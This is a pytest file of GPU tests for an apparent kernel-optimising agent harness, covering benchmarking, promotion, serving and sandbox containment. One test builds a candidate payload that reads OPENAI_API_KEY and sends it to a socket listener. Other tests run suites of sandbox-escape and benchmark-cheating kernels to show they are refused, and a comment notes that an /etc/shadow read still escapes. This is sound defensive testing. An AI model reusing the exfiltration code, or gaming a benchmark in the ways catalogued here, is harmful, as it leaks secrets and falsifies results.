"""GPU tests: the benchmark protocol, the promotion rule on real timings, serving dispatch and
candidate faults, on a CUDA device. Skipped on the CPU (CI); on a GPU machine:

    TRITON_INTERPRET=0 python -m pytest -q -m gpu tests/test_gpu.py
"""

import importlib
import os
import re
import shutil
from pathlib import Path

import pytest
import torch

from kernel_agent.agent.search import baseline_config, baseline_source, with_config
from kernel_agent.harness.bench.bench import Contender, balanced_median, benchmark_shape, load_ceilings
from kernel_agent.harness.bench.bench_records import BenchOutcome
from kernel_agent.harness.bench.bench_worker import run_bench_isolated
from kernel_agent.harness.bench.promotion import decide_over_shapes, judged_pair
from kernel_agent.harness.serving import serving, serving_install
from kernel_agent.isolation import sandbox
from kernel_agent.ops import get_op
from kernel_agent.sanitizer.canonical import judge_text

pytestmark = [
    pytest.mark.gpu,
    pytest.mark.skipif(
        os.environ.get("TRITON_INTERPRET") == "1" or not torch.cuda.is_available(),
        reason="needs a CUDA GPU with TRITON_INTERPRET=0",
    ),
]

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
QUANT = get_op("quantize_kv")
QSHAPE = QUANT.shapes("serving")[0]


@pytest.fixture(scope="module")
def ceilings():
    return load_ceilings()


def _baseline_contender(label="baseline"):
    from kernel_agent.kernels.baseline.quantize_kv import quantize_kv

    return Contender(label, quantize_kv, ("_quantize_kernel",))


def _measure(contender, ceilings):
    res = benchmark_shape(QUANT, QSHAPE, torch.bfloat16, [contender], ceilings)
    return {m.label: m for m in res.measurements}


def test_ceilings_are_plausible_for_a_datacenter_gpu(ceilings):
    assert 1.0 < ceilings.copy_tbps < 20.0 and 100.0 < ceilings.bf16_tflops < 5000.0


def test_bench_times_the_baseline_and_its_anchor(ceilings):
    ms = _measure(_baseline_contender(), ceilings)
    base, anchor = ms["baseline"], ms["anchor:torch.compile"]
    for m in (base, anchor):
        assert not m.error and m.n >= 3 and 0 < m.median_ms < 10 and 0 <= m.spread_ms < m.median_ms
        assert not m.implausible
        assert m.within_spread_ms <= m.spread_ms and m.spread_ms >= 0.005 * m.median_ms * 0.999  # the floor
        # two kernels interleaved: each timed at both positions of the order, its time balanced over them
        assert len(m.positions) == m.n and set(m.positions) == {0, 1}
        assert m.median_ms == balanced_median(m.rounds, m.positions)
        assert set(m.graph_positions) == {0, 1} and m.graph_ms == balanced_median(m.graph_rounds, m.graph_positions)
    assert 0.2 < base.fraction_of_ceiling <= 1.05 and base.ceiling_kind == "memory"
    # a small kernel is also timed as graph replays, in rounds with a spread
    assert base.graph_ms is not None and base.graph_ms > 0 and len(base.graph_rounds) >= 3
    assert base.graph_spread_ms >= 0.005 * base.graph_ms * 0.999


def test_bench_refuses_a_kernel_that_does_not_launch_its_own_kernels(ceilings):
    from kernel_agent.ops.quantize_kv import quantize_eager  # torch alone: no Triton kernel of its own

    ms = _measure(Contender("candidate", lambda x: quantize_eager(x), ("_quantize_kernel",)), ceilings)
    assert "none of its Triton kernels" in ms["candidate"].error


def test_bench_refuses_a_wrong_result(ceilings):
    from kernel_agent.kernels.baseline.quantize_kv import quantize_kv

    def wrong(x):
        q, s = quantize_kv(x)
        return q, s * 1.01

    ms = _measure(Contender("candidate", wrong, ("_quantize_kernel",)), ceilings)
    assert "wrong result on the device" in ms["candidate"].error


def test_bench_is_not_fooled_by_work_on_another_stream(ceilings):
    from kernel_agent.kernels.baseline.quantize_kv import quantize_kv

    side = torch.cuda.Stream()

    def hidden(x):  # the events on the current stream never see the kernel
        side.wait_stream(torch.cuda.current_stream())
        with torch.cuda.stream(side):
            return quantize_kv(x)

    m = _measure(Contender("candidate", hidden, ("_quantize_kernel",)), ceilings)["candidate"]
    assert m.implausible, m


def _variant_file(tmp_path, name, cfg):
    base = baseline_config("quantize_kv", QSHAPE)
    path = tmp_path / f"{name}.py"
    path.write_text(with_config(baseline_source("quantize_kv"), base, cfg, QUANT.bucket(QSHAPE), QUANT.tuning_space))
    return str(path)


def _decide(doc, kind):
    assert not doc.get("error"), doc.get("error")
    pairs = []
    for res in BenchOutcome.from_json(doc).results:
        ms = {m.label: m for m in res.measurements}
        tc, ti, judged = judged_pair(ms["candidate"], ms["incumbent"])
        assert judged == kind, (judged, ms["incumbent"].median_ms)
        pairs.append((tc, ti))
    return decide_over_shapes(pairs, sanitizer_passed=True)


def test_the_rule_promotes_a_faster_kernel_and_refuses_one_within_noise(tmp_path):
    slow = _variant_file(tmp_path, "one_row_per_program", (1, 1))  # over 0.2 ms: judged on event times
    same = tmp_path / "baseline_copy.py"
    same.write_text(baseline_source("quantize_kv") + "\n# the same kernel under another name\n")
    spec = {"op": "quantize_kv", "shapes": [QSHAPE.key()], "dtype": "bfloat16", "seed": 0}
    faster = _decide(
        run_bench_isolated(
            dict(spec, kernels=[{"label": "incumbent", "file": slow}, {"label": "candidate", "file": None}])
        ),
        "event",
    )
    assert faster.promote and faster.gain > 0.1, faster.reason
    within = _decide(
        run_bench_isolated(
            dict(spec, kernels=[{"label": "incumbent", "file": None}, {"label": "candidate", "file": str(same)}])
        ),
        "graph",
    )
    assert not within.promote and abs(within.gain) < 0.02, within.reason


def test_serving_dispatches_to_an_installed_kernel_and_its_results_pass(tmp_path):
    gpu = torch.cuda.get_device_name()
    src = open(_variant_file(tmp_path, "v", (16, 4))).read()
    entry = serving_install.install(
        "quantize_kv",
        QUANT.bucket(QSHAPE),
        "bfloat16",
        gpu,
        judge_text(src),
        None,
        0.05,
        "test",
        {},
        dir=tmp_path / "serving",
    )
    # the guard off: the kernel's own output is what this test judges (with it on, a first call is the trusted one)
    fn = serving.get("quantize_kv", dir=tmp_path / "serving", guard=False)
    case = QUANT.make_case(QSHAPE, torch.bfloat16, seed=3, device="cuda")
    assert str(fn.resolve(**case.args)) == serving.entry_name(entry)
    assert QUANT.compare(fn(**case.args), case.args, QUANT.reference(case.args, torch.float32)).ok
    fp16 = QUANT.make_case(QSHAPE, torch.float16, seed=3, device="cuda")
    assert str(fn.resolve(**fp16.args)) == "baseline"  # no fp16 entry: the baseline serves it
    assert QUANT.compare(fn(**fp16.args), fp16.args, QUANT.reference(fp16.args, torch.float32)).ok


# (op, shape) per op with a torch implementation: a serving-style call of each bucket kind
DISPATCH_CASES = [
    ("matmul", "32,4096,6144"),
    ("matmul", "8,14336,4096"),
    ("attention", "1,8,2,512,128,causal"),
    ("quantize_kv", "32,8,128"),
]


@pytest.mark.parametrize("op_name,shape", DISPATCH_CASES)
def test_serving_get_passes_the_differential_check_for_each_choice(tmp_path, op_name, shape):
    """Whichever implementation a bucket is dispatched to (a promoted kernel, the baseline, torch), the
    output of serving.get passes the op's differential check against the reference."""
    op = get_op(op_name)
    gpu = torch.cuda.get_device_name()
    s = op.parse_shape(shape)
    bucket = op.bucket(s)
    seen = set()
    for impl in ("kernel", "baseline", "torch"):
        d = tmp_path / impl
        if impl == "kernel":  # a promoted kernel: the baseline's source under another name
            promoted = judge_text(baseline_source(op_name) + "\n# promoted\n")
            serving_install.install(op_name, bucket, "bfloat16", gpu, promoted, 1, 0.1, "test", {}, dir=d)
        else:
            serving.set_choice(op_name, bucket, "bfloat16", gpu, impl, "test", {}, dir=d)
        fn = serving.get(op_name, dir=d, guard=False)  # what each implementation itself returns
        for seed in (0, 1):
            case = op.make_case(s, torch.bfloat16, seed=seed, device="cuda")
            assert fn.resolve(**case.args).impl == impl
            cmp = op.compare(fn(**case.args), case.args)
            assert cmp.ok, f"{op_name} {shape} served by {impl}: {cmp.describe()}"
        seen.add(fn.kernel_for(**case.args))
    assert len(seen) == 3  # three different functions served


@pytest.mark.parametrize("D", [1, 40, 64, 80, 96, 112, 160, 192, 256])
def test_paged_decode_baselines_at_any_head_dim_in_bfloat16(D):
    """The bf16 code the interpreter cannot run, compiled: head dims that fill their tile and head dims
    padded to one (masked lanes), at page sizes 1 and 16, GQA and a ragged batch."""
    for op_name in ("decode_attention", "decode_attention_int8"):
        op = get_op(op_name)
        fn = getattr(importlib.import_module(f"kernel_agent.kernels.baseline.{op_name}"), op_name)
        for page in (1, 16):
            shape = op.parse_shape(f"B=3,Hq=8,Hkv=2,D={D},block_size={page},ctx=700,ragged=1")
            case = op.make_case(shape, torch.bfloat16, seed=D + page, device="cuda")
            cmp = op.compare(case.call(fn), case.args)
            assert cmp.ok, f"{op_name} D={D} page {page}: {cmp.describe()}"


def test_the_committed_serving_set_serves_its_kernels_correctly():
    d = os.path.join(ROOT, "kernels", "serving")
    gpu = torch.cuda.get_device_name()
    entries = [e for e in serving.load_manifest(d).kernels() if e.gpu == gpu]
    if not entries:
        pytest.skip(f"no committed serving kernels for {gpu}")
    for e in entries:
        op = get_op(e.op)
        fn = serving.get(e.op, dir=d, guard=False)  # the committed kernel's own output, not the guard's fallback
        # the shapes it was promoted on (entries before those were recorded: the serving shapes of its bucket)
        shapes = [op.parse_shape(k) for k in e.shapes or ()] or [
            s for s in op.shapes("serving") if op.bucket(s) == e.bucket
        ]
        assert shapes and all(op.bucket(s) == e.bucket for s in shapes), e
        for s in shapes:
            case = op.make_case(s, torch.bfloat16, seed=11, device="cuda")
            assert str(fn.resolve(**case.args)) == serving.entry_name(e)
            out = fn(**case.args)
            assert op.compare(out, case.args, op.reference(case.args, torch.float32)).ok
            del case, out
            torch.cuda.empty_cache()


def test_a_gpu_fault_in_a_candidate_is_a_verdict_not_an_outage(tmp_path):
    from kernel_agent.sanitizer.runner import run_isolated

    src = baseline_source("quantize_kv").replace("x = tl.load(x_ptr + ", "x = tl.load(x_ptr + (1 << 44) + ")
    assert "(1 << 44)" in src
    path = tmp_path / "wild_pointer.py"
    path.write_text(src)
    v = run_isolated(str(path), "quantize_kv", "gpu", checks=("gpu_differential",), timeout_s=180)
    assert not v.passed
    doc = run_bench_isolated(
        {
            "op": "quantize_kv",
            "shapes": [QSHAPE.key()],
            "dtype": "bfloat16",
            "seed": 0,
            "kernels": [{"label": "incumbent", "file": None}, {"label": "candidate", "file": str(path)}],
        }
    )
    errs = [m.get("error") for r in doc.get("results", []) for m in r["measurements"] if m["label"] == "candidate"]
    assert doc.get("error") or any(errs)
    torch.cuda.synchronize()  # this process's device is untouched


def test_compute_sanitizer_reaches_the_sandboxed_executor_and_sees_an_out_of_bounds_store(tmp_path):
    """compute-sanitizer wraps the candidate's sandboxed executor and finds it by host pid over loopback
    TCP: the baseline passes memcheck, and a store one row past the output fails it."""
    from kernel_agent.sanitizer.gpu import find_compute_sanitizer
    from kernel_agent.sanitizer.runner import run_isolated

    if not find_compute_sanitizer():
        pytest.skip("compute-sanitizer is not installed")
    base = run_isolated(
        os.path.join(ROOT, "kernels", "baseline", "quantize_kv.py"),
        "quantize_kv",
        "gpu",
        checks=("memcheck",),
        timeout_s=150,
    )
    assert base.passed, base.summary()
    src = baseline_source("quantize_kv")
    bad = src.replace("tl.store(xq_ptr + ", "tl.store(xq_ptr + 4096 + ", 1)
    assert bad != src
    path = tmp_path / "store_past_end.py"
    path.write_text(bad)
    v = run_isolated(str(path), "quantize_kv", "gpu", checks=("memcheck",), timeout_s=150)
    assert not v.passed
    assert "time limit" not in (v.error or "") + " ".join(c.detail for c in v.checks)


def test_a_short_run_benchmarks_its_candidates_on_the_gpu(tmp_path):
    from kernel_agent.agent.loop import run_loop
    from kernel_agent.agent.run_config import RunConfig
    from kernel_agent.harness.ledger.ledger import Ledger

    os.environ["KERNEL_AGENT_SERVING_DIR"] = str(tmp_path / "serving")
    try:
        cfg = RunConfig(
            ops=["quantize_kv"],
            max_candidates=2,
            per_round=2,
            jobs=2,
            time_limit_s=600,
            candidates_dir=str(tmp_path / "candidates"),
        )
        summary = run_loop(cfg, str(tmp_path / "ledger.db"))
    finally:
        os.environ.pop("KERNEL_AGENT_SERVING_DIR", None)
    assert summary.session.benchmarked and summary.session.gpu == torch.cuda.get_device_name()
    led = Ledger(str(tmp_path / "ledger.db"))
    cands = led.candidates()
    assert len(cands) == 2 and all(c.status in ("benchmarked", "promoted", "rejected") for c in cands)
    timed = [c for c in cands if c.status != "rejected"]
    assert timed, [(c.label, c.status) for c in cands]
    for c in timed:
        labels = {b.label for b in led.bench_results(candidate_id=c.id)}
        assert "candidate" in labels
    led.close()
    shutil.rmtree(tmp_path / "candidates", ignore_errors=True)


def test_bench_in_two_processes_reports_a_spread_covering_both(tmp_path):
    import json
    import subprocess
    import sys

    out = tmp_path / "bench.json"
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "kernel_agent.agent.cli",
            "bench",
            "--op",
            "quantize_kv",
            "--processes",
            "2",
            "--no-ledger",
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=600,
    )
    assert r.returncode == 0, r.stderr[-2000:]
    results = json.loads(out.read_text())["results"]
    assert results  # one per serving shape of quantize_kv
    for res in results:
        for m in res["measurements"]:
            assert m["processes"] == 2 and m["n"] >= 6 and m["spread_ms"] >= m["within_spread_ms"]
            # graph replays only for small kernels (harness.bench.bench.is_small); where timed, both processes' rounds
            assert not m.get("graph_ms") or len(m["graph_rounds"]) >= 6


def test_a_hostile_candidate_is_contained_on_the_gpu_paths(tmp_path, monkeypatch):
    """The GPU checks' executor and the benchmark child run under the sandbox: with the static gate
    switched off, a candidate that reads a secret and tries to send it out or write it outside its
    scratch directory is refused, the verdict fails, and nothing leaves."""
    import socket
    import threading

    from kernel_agent.sanitizer.runner import run_isolated

    canary = "sk-canary-" + os.urandom(8).hex()
    monkeypatch.setenv("OPENAI_API_KEY", canary)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.settimeout(0.5)
    got = []

    def accept():
        import time

        end = time.time() + 60
        while time.time() < end:
            try:
                conn, _ = listener.accept()
                got.append(conn.recv(100))
                conn.close()
            except OSError:
                continue

    threading.Thread(target=accept, daemon=True).start()
    leak = tmp_path / "leak.txt"
    os.chmod(tmp_path, 0o777)
    payload = (
        "import os as _os, socket as _socket\n"
        "_k = _os.environ.get('OPENAI_API_KEY', 'none')\n"
        "try:\n"
        f"    _s = _socket.create_connection(('127.0.0.1', {listener.getsockname()[1]}), timeout=2); "
        "_s.sendall(_k.encode())\n"
        "except Exception:\n    pass\n"
        "try:\n"
        f"    open({str(leak)!r}, 'w').write(_k)\n"
        "except Exception:\n    pass\n"
    )
    path = tmp_path / "exfiltrate.py"
    path.write_text(payload + baseline_source("quantize_kv"))
    v = run_isolated(str(path), "quantize_kv", "gpu", checks=("gpu_differential",), timeout_s=240, skip_gate=True)
    assert not v.passed and "sandbox" in v.summary(), v.summary()
    doc = run_bench_isolated(
        {
            "op": "quantize_kv",
            "shapes": [QSHAPE.key()],
            "dtype": "bfloat16",
            "seed": 0,
            "kernels": [{"label": "incumbent", "file": None}, {"label": "candidate", "file": str(path)}],
        }
    )
    assert doc.get("error") and "static gate" in doc["log"]  # the benchmark loads kernels through the gate
    listener.close()
    assert not got and not leak.exists()


# -- the model decode step (bench --model) ---------------------------------------------------------


def test_the_model_step_times_every_stack_and_kv_mode():
    from kernel_agent.harness.workload.model_step import KV_MODES, PRESETS, STACKS, Point, run_model_bench

    cfg = PRESETS["llama-3-8b"]
    from kernel_agent.harness.workload.model_step import BF16_ONLY_STACKS

    result = run_model_bench(cfg, [Point(4, 1024)], STACKS, KV_MODES)
    [p] = result.points
    rows = {(t.stack, t.kv): t for t in p.timings}
    # torch (and flashinfer, when installed) once: bf16 in both modes; every other stack in both modes
    bf16_only = [s for s in BF16_ONLY_STACKS if s in result.stacks]
    assert set(rows) == {(s, "bf16") for s in bf16_only} | {
        (s, kv) for s in result.stacks if s not in bf16_only for kv in KV_MODES
    }
    assert rows[("torch", "bf16")].vs_torch == 1.0
    for t in p.timings:
        assert 0.005 < t.layer_ms < 20 and t.step_ms == t.layer_ms * cfg.layers and len(t.rounds) >= 7
        assert t.tokens_per_s == pytest.approx(4 / (t.step_ms / 1e3))
        assert t.vs_torch == pytest.approx(rows[("torch", "bf16")].layer_ms / t.layer_ms)
        ops = {"qkv", "attention", "o", "gate_up", "down"} | ({"quantize_kv"} if t.kv == "int8" else set())
        assert set(t.op_ms) == ops and set(t.shares) == ops | {"other"}
        # each op alone takes part of the layer, and together they take most of it
        assert all(0 < t.shares[o] < 1 for o in ops) and 0.5 < sum(t.shares[o] for o in ops) < 1.3
    assert [(s.kv, s.label) for s in p.served][:5] == [
        ("bf16", lb) for lb in ("qkv", "attention", "o", "gate_up", "down")
    ]
    assert 1e-4 < p.accuracy.attn_rel_error < 0.05 and 0 < p.accuracy.hidden_rel_error < p.accuracy.attn_rel_error
    assert p.accuracy.stack == "serving" and p.accuracy.bf16_attn_floor < p.accuracy.attn_rel_error


def test_bench_model_prints_the_tables_and_writes_the_json(tmp_path):
    import json
    import subprocess
    import sys

    cfg = tmp_path / "small.json"
    cfg.write_text(
        json.dumps(
            {
                "name": "small",
                "layers": 2,
                "hidden": 512,
                "heads": 8,
                "kv_heads": 2,
                "head_dim": 64,
                "intermediate": 1024,
            }
        )
    )
    out = tmp_path / "model.json"
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "kernel_agent.agent.cli",
            "bench",
            "--model",
            str(cfg),
            "--points",
            "2x256,4x600",
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=600,
    )
    assert r.returncode == 0, r.stderr[-2000:]
    assert "vs torch" in r.stdout and "share of each op" in r.stdout and "int8 KV cache" in r.stdout
    doc = json.loads(out.read_text())
    assert doc["config"]["name"] == "small" and [(p["batch"], p["context"]) for p in doc["points"]] == [
        (2, 256),
        (4, 600),
    ]
    assert all(len(p["timings"]) == 5 and p["op_calls"]["int8"] for p in doc["points"])


def test_gated_children_hold_the_gpu_only_once_granted(ceilings):  # cached: the child compiles before it times
    """The GPU lease on the device: a gated benchmark asks for the GPU to compile, then for the GPU
    alone, and times exactly as an ungated one; a gated GPU check asks once, for a shared lease. A
    benchmark refused the GPU alone never times: it waits until its time limit."""
    import time

    from kernel_agent.sanitizer.runner import run_isolated

    asked = []

    def grant_late(phase, still_wanted):
        asked.append(phase)
        time.sleep(0.5)  # the parent makes it wait: the child must not go on meanwhile
        return still_wanted()

    spec = {
        "op": "quantize_kv",
        "shapes": [QSHAPE.key()],
        "dtype": "bfloat16",
        "seed": 0,
        "kernels": [{"label": "incumbent", "file": None}],
    }
    doc = run_bench_isolated(spec, on_ready=grant_late)
    assert doc.get("error") is None and asked == ["gpu", "alone"], doc.get("log", "")[-800:]
    phases = doc["phases"]
    assert phases["wait_gpu_s"] >= 0.45 and phases["wait_s"] >= 0.45 and phases["prepare_s"] > 0
    [res] = doc["results"]
    assert [m.get("error") for m in res["measurements"] if m["label"] == "incumbent"] in ([None], [""])
    asked.clear()
    v = run_isolated(
        os.path.join(ROOT, "kernels", "baseline", "quantize_kv.py"),
        "quantize_kv",
        "gpu",
        checks=("determinism",),
        timeout_s=300,
        on_ready=grant_late,
    )
    assert v.passed and asked == ["gpu"], [c.to_json() for c in v.checks]
    refused = run_bench_isolated(spec, timeout_s=30, on_ready=lambda phase, still_wanted: phase == "gpu")
    assert refused.get("error", "").startswith("benchmark timed out") and not refused["results"]


GPU_FAULTY = sorted((Path(__file__).resolve().parent / "candidates" / "gpu_faulty").glob("*/*.py"))


@pytest.mark.parametrize("path", GPU_FAULTY, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_faults_the_interpreter_cannot_reach_fail_the_gpu_check_they_name(path):
    """tests/candidates/gpu_faulty/<op>/: faults only the GPU stage reaches (a bf16-only branch, sizes past
    the interpreter's); each names the GPU check that must reject it."""
    from kernel_agent.sanitizer.runner import run_isolated

    expected = re.search(r'^EXPECTED_CHECK = "(\w+)"', path.read_text(), re.M).group(1)
    v = run_isolated(str(path), path.parent.name, "gpu", checks=(expected,), timeout_s=300)
    failed = [c for c in v.checks if c.status == "failed"]
    assert not v.passed and failed and failed[0].name == expected, v.summary()


# -- the GPU sandbox: each way out tried on the device --------------------------------------------

GPU_HOSTILE = sorted(
    p
    for p in (Path(__file__).resolve().parent / "candidates" / "hostile").glob("*/*.py")
    if re.search(r"^HOSTILE_GPU = True", p.read_text(), re.M)
)
# A case that reads a file no GPU run needs is held only once GPU runs confine reads, which they do not yet
# (sandbox.GPU_CONFINED_READS; docs/SANITIZER.md says why): expected to escape until the switch is on.
UNCONFINED_READS = pytest.mark.xfail(
    not sandbox.GPU_CONFINED_READS, reason="GPU runs do not confine reads yet (sandbox.GPU_CONFINED_READS)"
)
GPU_HOSTILE_PARAMS = [
    pytest.param(p, marks=UNCONFINED_READS) if re.search(r"^NEEDS_CONFINED_READS = True", p.read_text(), re.M) else p
    for p in GPU_HOSTILE
]


@pytest.mark.parametrize("path", GPU_HOSTILE_PARAMS, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_the_hostile_suites_gpu_escapes_are_rejected_on_the_gpu(tmp_path, monkeypatch, path):
    """The hostile cases written against the GPU sandbox (HOSTILE_GPU = True), judged by the GPU checks'
    executor with the static gate switched off: each is rejected, and nothing reaches a listener on
    the port it was given (TCP or UDP)."""
    import socket
    import threading
    import time

    from kernel_agent.sanitizer.runner import run_isolated

    canary = "sk-canary-" + os.urandom(8).hex()
    monkeypatch.setenv("OPENAI_API_KEY", canary)
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(4)
    tcp.settimeout(0.2)
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    udp.settimeout(0.2)
    heard, stop = [], threading.Event()

    def listen():
        while not stop.is_set():
            for recv in (lambda: tcp.accept()[0].recv(200), lambda: udp.recv(200)):
                try:
                    heard.append(recv())
                except OSError:
                    pass

    threading.Thread(target=listen, daemon=True).start()
    home = tmp_path / "watch" / "home"
    home.mkdir(parents=True)
    (home / ".netrc").write_text(f"machine api.example.invalid login agent password {canary}\n")
    text = path.read_text()
    op = re.search(r'^HOSTILE_OP = "(\w+)"', text, re.M).group(1)
    for key, value in (
        ("{{PORT}}", str(port)),
        ("{{WATCH_DIR}}", str(tmp_path / "watch")),
        ("{{MARKER}}", "ka-hostile-" + os.urandom(4).hex()),
        ("{{REPO}}", ROOT),
    ):
        text = text.replace(key, value)
    candidate = tmp_path / path.name
    candidate.write_text(text)
    try:
        v = run_isolated(str(candidate), op, "gpu", checks=("gpu_differential",), timeout_s=240, skip_gate=True)
        time.sleep(1.0)
    finally:
        stop.set()
        tcp.close()
        udp.close()
    assert not v.passed, v.summary()
    assert not heard, heard


@pytest.mark.xfail(
    reason="a GPU run's reads are not confined yet (the narrower rules failed CUDA's initialisation on "
    "the H200), so the probe's /etc/shadow row escapes where the child runs as root"
)
def test_the_gpu_sandbox_probe_finds_no_escape_and_a_kernel_runs():
    """scripts/gpu_sandbox_probe.py: every escape refused where it counts (with the audit hook, below it,
    in a wrapping tool's namespaces), and a Triton kernel runs in the sandbox, in the tool's namespaces
    and under memcheck."""
    import subprocess
    import sys

    r = subprocess.run(
        [sys.executable, os.path.join(ROOT, "scripts", "gpu_sandbox_probe.py"), "--quick"],
        cwd=ROOT,
        env=dict(os.environ, PYTHONPATH=ROOT),
        capture_output=True,
        text=True,
        timeout=900,
    )
    assert r.returncode == 0, r.stdout[-6000:] + r.stderr[-2000:]


GPU_BENCH = sorted((Path(__file__).resolve().parent / "candidates" / "gpu_bench").glob("*/*.py"))


@pytest.mark.parametrize("path", GPU_BENCH, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_benchmark_only_cheats_buy_nothing(path):
    """tests/candidates/gpu_bench/<op>/: kernels that pass every check and are fast only when a benchmark
    repeats its inputs, hands back an output block, replays a CUDA graph, or times the bucket's exact
    benchmark point. Benchmarked as a promotion is (the bucket's point, here the op's first serving shape or
    the file's BENCH_SHAPE, then a shape drawn at random inside the bucket, seeded; against the baseline or the
    file's BENCH_INCUMBENT), each is refused with the
    timed call or replay named (EXPECTED_BENCH = "output of timed call" / "output of the last CUDA-graph
    replay"), refused at the drawn shape (EXPECTED_BENCH = "drawn at random inside the bucket"), or timed no
    faster than the baseline and not promoted (EXPECTED_BENCH = "no gain")."""
    from kernel_agent.harness.bench.bench import with_drawn_shape
    from kernel_agent.harness.bench.bench_records import BenchKernel, BenchSpec
    from kernel_agent.harness.bench.promotion import judge_benchmark

    op = get_op(path.parent.name)
    text = path.read_text()
    expected = re.search(r'^EXPECTED_BENCH = "([^"]+)"', text, re.M).group(1)
    named = re.search(r'^BENCH_SHAPE = "([^"]+)"', text, re.M)
    shape = op.parse_shape(named.group(1)).key() if named else op.shapes("serving")[0].key()
    # the incumbent: the baseline, or the file's BENCH_INCUMBENT (a cheat whose fast path is today's baseline is
    # timed against the kernel it once beat, so that it still wins at the point and the drawn shape refuses it)
    incumbent = re.search(r'^BENCH_INCUMBENT = "([^"]+)"', text, re.M)
    incumbent_file = os.path.join(ROOT, incumbent.group(1)) if incumbent else None
    spec = with_drawn_shape(
        BenchSpec.judging(op.name, [shape], "bfloat16", BenchKernel("i", incumbent_file), BenchKernel("c", str(path))),
        seed=20261203,
    )
    assert spec.drawn, spec
    doc = run_bench_isolated(spec, timeout_s=900)
    j = judge_benchmark(BenchOutcome.from_json(doc), [shape], drawn=spec.drawn)
    if expected == "no gain":
        assert not j.error and j.decision is not None, j.error
        assert not j.decision.promote and j.candidate_ms >= 0.9 * j.incumbent_ms, (j.candidate_ms, j.incumbent_ms)
    elif expected.startswith("output of"):
        assert expected in j.error and "differs from the reference" in j.error, j.error
    else:  # faster at the bucket's point than the incumbent, and refused at the drawn shape for it
        assert not j.error and j.decision is not None, j.error
        assert j.candidate_ms < 0.9 * j.incumbent_ms, (j.candidate_ms, j.incumbent_ms)
        assert not j.decision.promote and expected in j.decision.reason, j.decision.reason


@pytest.mark.parametrize("op_name", ["matmul", "attention", "decode_attention", "quantize_kv", "decode_attention_int8"])
def test_each_baseline_passes_the_gpu_regions_of_its_domain(op_name):
    """gpu_domain (pools past 2^31 elements, 131072-token contexts, MQA at serving heads) refuses no baseline:
    the device side of the domain draws has no false positive where the kernels are right."""
    from kernel_agent.sanitizer.runner import run_isolated

    v = run_isolated(
        os.path.join(ROOT, "kernels", "baseline", f"{op_name}.py"),
        op_name,
        "gpu",
        checks=("gpu_domain", "gpu_differential"),
        timeout_s=900,
    )
    assert v.passed, v.summary()


def test_a_workload_plan_measured_on_the_gpu_scales_each_option_by_its_step():
    """`workload plan --measure on`'s path: each option's heaviest point timed with bench --model's machinery
    (the serving stack in its KV mode), tokens/s scaled by measured over roofline, the int8 error measured."""
    from kernel_agent.agent.cli.workload import _gpu_measure
    from kernel_agent.harness.workload.kv_plan import estimate_options
    from kernel_agent.harness.workload.model_step import PRESETS

    trace = os.path.join(ROOT, "tests", "data", "workloads", "chat_300.jsonl")
    opts = estimate_options(
        trace,
        PRESETS["llama-3-8b"],
        4 * 2**30,
        0.02,
        page_sizes=(16,),
        measure=_gpu_measure(lambda text: None),
        basis="gpu",
    )
    by = {o.kv: o for o in opts}
    assert all(0.5 < o.measured_ratio < 20 for o in opts)  # a step is not faster than its roofline, nor absurd
    assert by["bf16"].error == 0.0 and 1e-3 < by["int8"].error < 0.05
    assert by["int8"].mean_batch > by["bf16"].mean_batch
